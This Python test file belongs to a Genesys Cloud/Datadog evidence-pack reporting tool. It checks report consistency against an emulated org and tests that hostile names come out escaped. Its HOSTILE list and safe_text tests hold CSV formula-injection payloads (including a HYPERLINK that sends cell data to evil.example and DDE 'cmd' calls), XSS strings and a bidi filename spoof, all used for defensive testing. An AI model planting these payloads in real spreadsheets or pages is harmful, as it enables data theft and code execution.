"""The evidence packs check their own evidence, against an emulated org that is consistent by construction:

- the emulator's per-minute streams make the daily usage, the 429s and the rate-limit records (test 1);
- on the emulator's 90 days every cross-check of the limits pack holds, Data Actions are counted and named as the
  org has them, and the requested value follows from the measured peak by the rule the pack states (test 2);
- every number a summary sentence states is in the chart or CSV the sentence cites (test 3);
- a contradiction between two sources is shown in the pack, never hidden (test 4);
- hostile names go through both packs into every output file as inert text (test 5, issue 23).
"""

import copy
import csv
import json
import math
import re
import threading
from collections import Counter
from dataclasses import replace
from datetime import datetime, time, timedelta, timezone
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from datadog_checks.genesys_cloud.client import GenesysClient
from datadog_checks.genesys_cloud.clock import FakeClock
from markdown_it import MarkdownIt

from genesys_cloud_dd.emulator import Emulator, OrgOptions
from genesys_cloud_dd.emulator.data import licensing as licensing_data
from genesys_cloud_dd.emulator.data.contact_center import contact_center
from genesys_cloud_dd.emulator.data.traffic import NEAR, traffic
from genesys_cloud_dd.emulator.data.usage import aggregate, usage_history
from genesys_cloud_dd.reports import licenses, limits, safe_text
from genesys_cloud_dd.reports.datadog_history import MetricsHistory
from genesys_cloud_dd.reports.limits_analysis import analyse, per_minute_events
from tests.conftest import SECRET_CANARY, START
from tests.test_reports import png_text, read_csv

DAYS = 90
CITATION = re.compile(r'\[([^\[\]]+\.(?:png|csv)(?:, [^\[\]]+\.(?:png|csv))*)\]')
DATE = re.compile(r'\d{4}-\d{2}-\d{2}')
NUMBER = re.compile(r'(?<![\w.])\d[\d,]*(?:\.\d+)?')


def _client(emu, clock):
    return GenesysClient.from_settings(emu.url, emu.url, emu.client_id, emu.client_secret, clock=clock,
                                       max_requests_per_minute=100000)


@pytest.fixture(scope='module')
def org90(tmp_path_factory):
    clock = FakeClock(START)
    with Emulator(OrgOptions(seed=7, users=40, queues=3, oauth_clients=11, days=DAYS + 10), clock=clock,
                  client_secret=SECRET_CANARY) as emu:
        data = limits.pull_limits(_client(emu, clock), DAYS, clock.now().date(), clock.sleep, progress=False)
        out = tmp_path_factory.mktemp('evidence') / 'limits'
        result = limits.write_report(data, str(out), org_label=emu.org.name)
        yield emu, clock, data, result, out


def test_one_stream_per_client_makes_usage_429s_and_rate_limit_records(org90):
    """Per client and day: the minutes add up to the Usage API's requests, the requests over the limit in force
    are its 429s, and its minutes at 90 % of that limit are its rate-limit records; Data Action records carry the
    ids of the org's actions."""
    emu, clock, data, _, _ = org90
    org, stream = emu.org, traffic(emu.org)
    usage = aggregate(org, data.first, data.last, 'Day', ('client_id',))
    records = Counter()
    for r in data.ratelimits:
        records[(r.entity_id, r.day, r.limit_name)] += r.count
    bursting = set()
    for client in org.oauth_clients:
        key = stream.limit_of(client)
        for day in data.days:
            minutes = stream.minutes(client, day, usage_history(org).background_total(client, day))
            limit = stream.limit_value(*key, day)
            truth = usage.get((day, client.id), {'requests': 0, 'status429': 0})
            assert sum(minutes) == truth['requests'], (client.name, day)
            assert sum(max(0, m - limit) for m in minutes) == truth['status429'], (client.name, day)
            near = sum(1 for m in minutes if m >= NEAR * limit)
            assert records[(client.id, day, key[1])] == near, (client.name, day)
            if near:
                bursting.add(client.name)
    assert len(bursting) >= 3 and sum(v['status429'] for v in usage.values()) > 0
    action_ids = {a.id for a in contact_center(org).actions}
    assert {r.entity_id for r in data.ratelimits if r.namespace == 'dataactions'} == action_ids
    assert {r.entity_id for r in data.ratelimits if r.namespace == 'platform.api'} <= {c.id for c in org.oauth_clients}


def test_pack_consistency_holds_on_the_emulators_90_days(org90):
    emu, _, data, result, out = org90
    ev = analyse(data)
    assert [(c.name, c.checked > 0, c.contradictions) for c in ev.checks] == [
        (c.name, True, []) for c in ev.checks]
    checks = {r['check']: r for r in read_csv(out / 'consistency.csv') if r['verdict'] != 'contradiction'}
    assert {r['verdict'] for r in checks.values()} == {'holds'}
    assert int(checks['Data Actions counted against Data Actions listed']['checked']) == 6
    text = result.paragraph
    assert 'The sources agree: daily requests against minutes at 90 % of a per-minute limit on all ' in text
    names = sorted(a.name for a in contact_center(emu.org).actions)
    assert f'across 6 actions ({", ".join(names[:3])} and 3 more) [data_action_bursts.png]' in text
    md = (out / 'report.md').read_text()
    assert 'holds on all 6 actions' in md and 'Do the sources agree?' in md
    # The requested value, recomputed from the pack's own CSVs by the rule the pack states.
    top = result.headline
    events, r429 = Counter(), Counter()
    for r in read_csv(out / 'ratelimits_hourly.csv'):
        if (r['namespace'], r['limit_name']) == (top.namespace, top.limit_name):
            events[(r['entity_id'], r['date'])] += int(r['records'])
    for r in read_csv(out / 'usage_daily.csv'):
        r429[(r['oauth_client_id'], r['date'])] += int(r['status429'])
    peak = max(top.value + math.ceil(r429[k] / e) if r429[k] else math.ceil(NEAR * top.value)
               for k, e in events.items())
    value = max(math.ceil(peak * 1.25 / 50) * 50, top.value + 50)
    assert (f'Requested: {top.limit_name} = {value:,} (measured peak: at least {peak:,} requests in one minute, '
            in text)
    assert 'the rule: the measured peak plus 25 % headroom, rounded up to 50).' in text
    # The day counts say what exists: here every day asked has data.
    assert png_text(out / 'binding_limit.png')['Title'].endswith(f'on {top.days_hit} of the {DAYS} days with data')


def _numbers(text):
    """Dates and numbers of a text (numbers without thousands separators), leaving out paths and file names."""
    words = ' '.join(w for w in text.split() if '/' not in w and '_' not in w and '.png' not in w)
    dates = set(DATE.findall(words))
    rest = DATE.sub(' ', words)
    return dates | {m.replace(',', '').rstrip('.') for m in NUMBER.findall(rest)}


def _source_numbers(out, name):
    path = out / name
    if name.endswith('.png'):
        meta = png_text(path)
        return _numbers(meta.get('Title', '') + ' ' + meta.get('Description', ''))
    found = set()
    with open(path, newline='', encoding='utf-8') as f:
        for row in csv.reader(f):
            for cell in row:
                found |= _numbers(cell) | {cell}
    return found


def assert_summary_cites_its_numbers(paragraph, out, skip=('Requested:',)):
    """Every number and date a cited sentence states is in the chart (title, subtitle) or CSV it cites."""
    sentences = [s for s in re.split(r'(?<=\]\.)\s+|(?<=\.)\s+(?=[A-Z])', paragraph) if CITATION.search(s)]
    assert sentences
    for sentence in sentences:
        if sentence.startswith(skip):
            continue
        cited = set()
        for group in CITATION.findall(sentence):
            for name in group.split(', '):
                cited |= _source_numbers(out, name)
        stated = _numbers(CITATION.sub('', sentence)) - {'90'}  # the 90 % Genesys records at: a constant
        assert stated <= cited, (sentence, sorted(stated - cited))


def test_every_number_of_the_summary_is_in_the_chart_or_csv_it_cites(org90, tmp_path):
    _, clock, data, result, out = org90
    assert_summary_cites_its_numbers(result.paragraph, out)
    # The same on an org with 40 days of history asked for 90: "N of the 40 days with data (90 asked)".
    with Emulator(OrgOptions(seed=7, users=20, queues=2, oauth_clients=8, days=40), clock=clock) as emu:
        short = limits.pull_limits(_client(emu, clock), DAYS, clock.now().date(), clock.sleep, progress=False)
        res = limits.write_report(short, str(tmp_path / 'short'))
    assert_summary_cites_its_numbers(res.paragraph, tmp_path / 'short')
    with_data = len(short.days_with_data)
    assert f'of the {with_data} days with data ({DAYS} asked)' in res.paragraph
    assert png_text(tmp_path / 'short' / 'binding_limit.png')['Title'].endswith(
        f'of the {with_data} days with data ({DAYS} asked)')
    # The licence pack: its cost sentence names the chart's total and driver, with each charge's own rate.
    with Emulator(OrgOptions(seed=7, users=40, queues=3, oauth_clients=4, days=40), clock=clock) as emu:
        lic = licenses.pull_licenses(_client(emu, clock), clock.now(), lambda s: None, progress=False)
        _, _, outlooks, _ = licenses.write_report(lic, str(tmp_path / 'lic'))
    paragraph = ' '.join(licenses._paragraph(lic, outlooks, licenses.cost_model(outlooks)))
    assert_summary_cites_its_numbers(paragraph, tmp_path / 'lic')


def test_a_contradiction_between_sources_is_shown_in_the_pack(org90, tmp_path):
    _, _, data, result, _ = org90
    broken = copy.deepcopy(data)
    ev = analyse(broken)
    (client, day, _, limit_name), events = sorted(per_minute_events(broken, ev.names).items())[0]
    # The Usage API now says the client sent 10 requests that day, against its minutes at 90 % of the limit.
    rows = [r for r in broken.usage if (r.client_id, r.day) == (client, day)]
    broken.usage = [r for r in broken.usage if r not in rows] + [replace(rows[0], requests=10)]
    # And one Data Action the analytics do not list.
    action = next(r.entity_id for r in broken.ratelimits if r.namespace == 'dataactions')
    broken.action_names = {k: v for k, v in broken.action_names.items() if k != action}
    res = limits.write_report(broken, str(tmp_path / 'pack'))
    assert 'The sources contradict each other in 2 places (daily requests against minutes at 90 % of a ' \
           'per-minute limit: 1 of ' in res.paragraph
    who = ev.names[client]
    md = (tmp_path / 'pack' / 'report.md').read_text()
    assert safe_text.markdown(f'Contradiction: {who} on {day.isoformat()}: {events:,} minutes at 90 % of 300 a '
                              f'minute ({limit_name}) take at least {events * 270:,} requests; the Usage API counts '
                              f'10') in md
    assert safe_text.markdown(f'Contradiction: {action}: in the rate-limit events, not in the Data Action '
                              'analytics') in md
    rows = [r for r in read_csv(tmp_path / 'pack' / 'consistency.csv') if r['verdict'] == 'contradiction']
    assert len(rows) == 2 and all(r['contradiction'] for r in rows)
    assert 'The sources agree' in result.paragraph  # the unbroken pack said so


HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '![pixel](https://evil.example/pixel.png)',
    '[Open the case](javascript:alert(1))',
    'Nightly\n# Limit increase APPROVED\nsync',
    'Sync $$ job',
    'Invoice \u202egnp.exe',
    '+SUM(1)',
    '-2+3',
    '\tTabbed',
    '\rReturned',
)
BIDI = re.compile('[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]')


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def _tags(html_text):
    parser = _Tags()
    parser.feed(html_text)
    return parser.tags


def assert_inert(out):
    """Every file of a pack: no formula cell, no markup from a name, no bidi control, charts written."""
    files = sorted(Path(out).iterdir())
    assert {p.suffix for p in files} == {'.csv', '.png', '.md', '.html'}
    for path in files:
        if path.suffix == '.png':
            assert not BIDI.search(' '.join(png_text(path).values())), path.name
            continue
        text = path.read_text(encoding='utf-8')
        assert not BIDI.search(text), path.name
        if path.suffix == '.csv':
            for row in csv.reader(text.splitlines()):
                for cell in row:
                    if cell[:1] in ('=', '+', '-', '@', '\t', '\r'):
                        float(cell)  # only a number may start so
    md = (Path(out) / 'report.md').read_text(encoding='utf-8')
    rendered = MarkdownIt('commonmark', {'html': True}).enable('table').render(md)
    for tag, attrs in _tags(rendered):
        assert tag not in ('script', 'iframe', 'object'), tag
        assert not any(a.startswith('on') for a in attrs), (tag, attrs)
        if tag == 'img':
            assert re.fullmatch(r'[a-z0-9_]+\.png', attrs['src']), attrs
        if tag == 'a':
            assert re.fullmatch(r'[a-z0-9_]+\.csv', attrs['href']), attrs
    assert rendered.count('<h1>') == 1 and 'APPROVED</h' not in rendered
    html_text = (Path(out) / 'report.html').read_text(encoding='utf-8')
    for tag, attrs in _tags(html_text):
        assert tag not in ('script', 'iframe', 'object'), tag
        assert not any(a.startswith('on') for a in attrs), (tag, attrs)
        if tag == 'img':
            assert attrs['src'].startswith('data:image/png;base64,')
        if tag == 'a':
            assert attrs['href'].startswith('data:text/csv;charset=utf-8;base64,')
    return md, html_text


def _hostile_datadog(fake_datadog, clock):
    """Per-minute velocity and object counts in Datadog under hostile client, template and parent names."""
    day = clock.now().date() - timedelta(days=1)
    base = datetime.combine(day, time(9), tzinfo=timezone.utc).timestamp()
    for i, name in enumerate(HOSTILE):
        tags = {'oauth_client_id': f'id-{i}', 'oauth_client_name': name}
        fake_datadog.add_points('genesys_cloud.velocity.requests', tags, [(base + 60 * m, 100 + 20 * i) for m in
                                                                          range(5)])
        fake_datadog.add_points('genesys_cloud.velocity.rate_limited', dict(tags, template_uri=name),
                                [(base + 60 * m, 3) for m in range(2)])
        obj = {'namespace': 'architect', 'limit_key': 'datatable.rows.max', 'object_type': 'data_table_row',
               'parent_name': name}
        fake_datadog.add_points('genesys_cloud.objects.count', obj, [(base - 86400 * d, 4000 + 10 * i - d)
                                                                     for d in range(5)])
        fake_datadog.add_points('genesys_cloud.objects.limit', obj, [(base - 86400 * d, 5000) for d in range(5)])
    return MetricsHistory(fake_datadog.url, 'api-key', 'app-key')


def test_hostile_names_are_inert_in_every_file_of_both_packs(clock, tmp_path, monkeypatch, fake_datadog):
    with Emulator(OrgOptions(seed=7, users=30, queues=2, oauth_clients=len(HOSTILE) + 1, days=20),
                  clock=clock) as emu:
        for client, name in zip(emu.org.oauth_clients[1:], HOSTILE):
            emu.org.rename_oauth_client(client.id, name)
        cc = contact_center(emu.org)
        cc.actions = [replace(a, name=HOSTILE[i % len(HOSTILE)]) for i, a in enumerate(cc.actions)]
        monkeypatch.setitem(licensing_data.CX_CHARGE, 'name', HOSTILE[7])
        monkeypatch.setitem(licensing_data.TOKEN_CHARGE, 'name', HOSTILE[1])
        monkeypatch.setitem(licensing_data.VOICE_CHARGE, 'name', HOSTILE[9])
        client = _client(emu, clock)
        data = limits.pull_limits(client, 14, clock.now().date(), clock.sleep, progress=False,
                                  history=_hostile_datadog(fake_datadog, clock), dd_days=2)
        result = limits.write_report(data, str(tmp_path / 'limits'), org_label=HOSTILE[3])
        lic = licenses.pull_licenses(client, clock.now(), lambda s: None, progress=False)
        licenses.write_report(lic, str(tmp_path / 'lic'), org_label=HOSTILE[5])
    assert {r.client_name for r in data.usage} & set(HOSTILE[:3])  # the names did reach the pack
    assert {'busiest_minute.png', 'minutes_429.png', 'object_limits_history.png', 'object_limits.png'} <= {
        Path(f).name for f in result.files}
    md, html_text = assert_inert(tmp_path / 'limits')
    assert safe_text.markdown('Sync $$ job') in md and 'Sync $$ job' in html_text  # shown, as written
    assert 'Nightly # Limit increase APPROVED sync' in html_text  # one line
    cells = [c for p in (tmp_path / 'limits').glob('*.csv') for row in csv.reader(p.open(encoding='utf-8'))
             for c in row]
    assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    md, html_text = assert_inert(tmp_path / 'lic')
    assert '&lt;img src=x onerror=alert(1)&gt;' in html_text or 'onerror' not in html_text
    assert result.paragraph


class _NotDatadog(BaseHTTPRequestHandler):
    """A server that answers 200 with JSON that is not a Datadog metrics answer (a proxy, another API)."""

    def do_GET(self):  # noqa: N802 (http.server's name)
        body = json.dumps({'data': [], 'status': 'success'}).encode()
        self.send_response(200)
        self.send_header('Content-Type', 'application/json')
        self.send_header('Content-Length', str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


def test_an_answer_that_is_not_datadogs_is_named_not_read_as_no_data(org90):
    emu, clock, _, _, _ = org90
    server = ThreadingHTTPServer(('127.0.0.1', 0), _NotDatadog)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        history = MetricsHistory(f'http://127.0.0.1:{server.server_port}', 'api-key', 'app-key')
        data = limits.pull_limits(_client(emu, clock), 3, clock.now().date(), clock.sleep, progress=False,
                                  history=history, dd_days=1)
    finally:
        server.shutdown()
        server.server_close()
    notes = ' '.join(data.notes)
    assert 'per-minute velocity from Datadog: not available (Datadog metrics query: the answer from http://127.0.0.1' \
           in notes and 'is not a Datadog metrics answer' in notes
    assert 'object counts from Datadog: not available' in notes
    assert 'companion module installed' not in notes and data.velocity is None


def test_safe_text_rules_one_by_one():
    for trigger in ('=', '+', '-', '@', '\t', '\r'):
        assert safe_text.csv_cell(trigger + 'SUM(A1)') == "'" + safe_text.plain(trigger + 'SUM(A1)')
    assert safe_text.csv_cell('CRM sync') == 'CRM sync' and safe_text.csv_cell(-3) == -3
    assert safe_text.plain('a\u202eb\u2066c\nd\te') == 'abc d e'
    assert safe_text.markdown('<b>x</b>') == '&lt;b&gt;x&lt;/b&gt;'
    assert safe_text.markdown('![p](https://evil.example/p.png)') == '!\\[p\\](https\\://evil.example/p.png)'
    assert safe_text.markdown('# Heading') == '\\# Heading' and safe_text.markdown('1. item') == '1\\. item'
    assert safe_text.markdown('- item') == '\\- item' and safe_text.markdown('2026-11-14 ok') == '2026-11-14 ok'
    assert safe_text.markdown('usage_daily.csv and _em_') == 'usage_daily.csv and \\_em\\_'
    assert safe_text.markdown('Sync $$ job | x') == 'Sync \\$\\$ job \\| x'
    assert safe_text.html('<img src=x onerror=alert(1)>"') == '&lt;img src=x onerror=alert(1)&gt;&quot;'
    rendered = MarkdownIt('commonmark', {'html': True}).render(safe_text.markdown('[a](javascript:alert(1)) <i>'))
    assert '<a' not in rendered and '<i>' not in rendered


def test_the_html_holds_every_csv_and_each_section_title_once(org90):
    import base64

    _, _, _, result, out = org90
    html_text = (out / 'report.html').read_text(encoding='utf-8')
    embedded = {attrs['download']: base64.b64decode(attrs['href'].split(',', 1)[1])
                for tag, attrs in _tags(html_text) if tag == 'a' and 'download' in attrs}
    csvs = sorted(p.name for p in out.glob('*.csv'))
    assert sorted(embedded) == csvs
    for name in csvs:
        assert embedded[name] == (out / name).read_bytes(), name  # downloadable from the file itself, as written
    assert '<details><summary>Numbers: <a download="binding_limit.csv"' not in html_text  # 90 rows: a link only
    assert '<details><summary>Numbers: <a download="status_429_endpoints.csv"' in html_text  # small: also a table
    assert '<figcaption>' not in html_text
    md = (out / 'report.md').read_text(encoding='utf-8')
    headings = [line for line in md.splitlines() if line.startswith('## ')]
    assert len(headings) == len(set(headings))
    for section in md.split('\n## ')[1:]:
        title, body = section.split('\n', 1)
        assert title not in body, title  # the title once per section (no caption or alt text repeating it)
